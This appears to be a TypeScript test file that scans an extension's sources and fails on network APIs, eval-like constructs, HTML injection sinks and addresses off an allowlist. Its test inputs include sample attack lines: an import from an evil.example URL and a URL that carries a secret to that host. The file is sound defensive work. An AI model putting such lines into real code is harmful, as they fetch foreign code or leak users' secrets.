/** No network, no code from text, no markup from text in our own sources: what runs is what was reviewed, and nothing leaves. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ts from 'typescript';
import { describe, expect, it } from 'vitest';

const ROOT = join(import.meta.dirname, '..', '..');

/** Names by which a script reaches others, or makes code of text. As names, not as text: a comment may speak of them. */
const FORBIDDEN = new Set(
  (
    'fetch XMLHttpRequest WebSocket WebSocketStream EventSource sendBeacon WebTransport RTCPeerConnection importScripts ' +
    'eval Function execScript innerHTML outerHTML insertAdjacentHTML dangerouslySetInnerHTML createContextualFragment setHTMLUnsafe'
  ).split(' '),
);

/** Hosts that may stand in an address of ours, and why. None of them is asked for anything by the extension. */
const HOSTS: Record<string, string> = {
  'www.instagram.com': 'the site itself: links that the person opens',
  'www.facebook.com': 'the site itself: links that the person opens',
  'site.invalid': 'no host at all: base of addresses that are only taken apart',
};

function* sources(dir: string): Generator<string> {
  for (const entry of readdirSync(join(ROOT, dir), { withFileTypes: true })) {
    const path = `${dir}/${entry.name}`;
    if (entry.isDirectory()) yield* sources(path);
    else if (/\.tsx?$/u.test(entry.name)) yield path;
  }
}

/** What a source says that it may not say, with its line. */
function faultsOf(name: string, text: string): string[] {
  const file = ts.createSourceFile(name, text, ts.ScriptTarget.Latest, false, name.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS);
  const faults: string[] = [];
  const fault = (node: ts.Node, what: string): void =>
    void faults.push(`${name}:${file.getLineAndCharacterOfPosition(node.getStart(file)).line + 1} ${what}`);
  const literal = (node: ts.Node): string | null =>
    ts.isStringLiteralLike(node) || node.kind === ts.SyntaxKind.TemplateHead ? (node as ts.StringLiteralLike | ts.TemplateHead).text : null;
  const visit = (node: ts.Node): void => {
    if (ts.isIdentifier(node) && FORBIDDEN.has(node.text)) fault(node, node.text);
    if (ts.isElementAccessExpression(node)) {
      const key = literal(node.argumentExpression);
      if (key !== null && FORBIDDEN.has(key)) fault(node, `["${key}"]`);
    }
    if (ts.isCallExpression(node)) {
      const [first] = node.arguments;
      if (
        node.expression.kind === ts.SyntaxKind.ImportKeyword &&
        (first === undefined || !ts.isStringLiteral(first) || !first.text.startsWith('.'))
      )
        fault(node, 'import of a name that is not fixed');
      if (/(?:setTimeout|setInterval)$/u.test(node.expression.getText(file)) && first !== undefined && literal(first) !== null)
        fault(node, 'a timer with text');
      if (/^document\.write/u.test(node.expression.getText(file))) fault(node, 'document.write');
    }
    for (const [, host = ''] of (literal(node) ?? '').matchAll(/\b(?:https?|wss?):\/\/([\w.-]+)/gu)) {
      if (!(host.toLowerCase().replace(/\.$/u, '') in HOSTS)) fault(node, `the address of ${host}`);
    }
    ts.forEachChild(node, visit);
  };
  visit(file);
  return faults;
}

describe('sources', () => {
  it('ask nobody, and make neither code nor markup of text', () => {
    const files = ['lib', 'components', 'entrypoints'].flatMap((dir) => [...sources(dir)]);
    expect(files.length).toBeGreaterThan(300);
    expect(files.flatMap((path) => faultsOf(path, readFileSync(join(ROOT, path), 'utf8')))).toEqual([]);
  });

  it.each([
    ['fetch("/x")', 'fetch'],
    ['window["fetch"]("/x")', '["fetch"]'],
    ['const go = globalThis.fetch', 'fetch'],
    ['new WebSocket(url)', 'WebSocket'],
    ['navigator.sendBeacon(url, data)', 'sendBeacon'],
    ['await import(name)', 'import of a name'],
    ['await import("https://evil.example/x.js")', 'import of a name'],
    ['setTimeout("go()", 1)', 'a timer with text'],
    ['new Function("return 1")()', 'Function'],
    ['element.innerHTML = text', 'innerHTML'],
    ['const image = `https://evil.example/${secret}`', 'the address of evil.example'],
  ])('%s is found', (source, what) => {
    expect(faultsOf('x.ts', source).join()).toContain(what);
  });

  it('a word in a comment or in a text is none of them', () => {
    expect(faultsOf('x.ts', '// fetch\nconst text = "eval is evil";')).toEqual([]);
  });
});
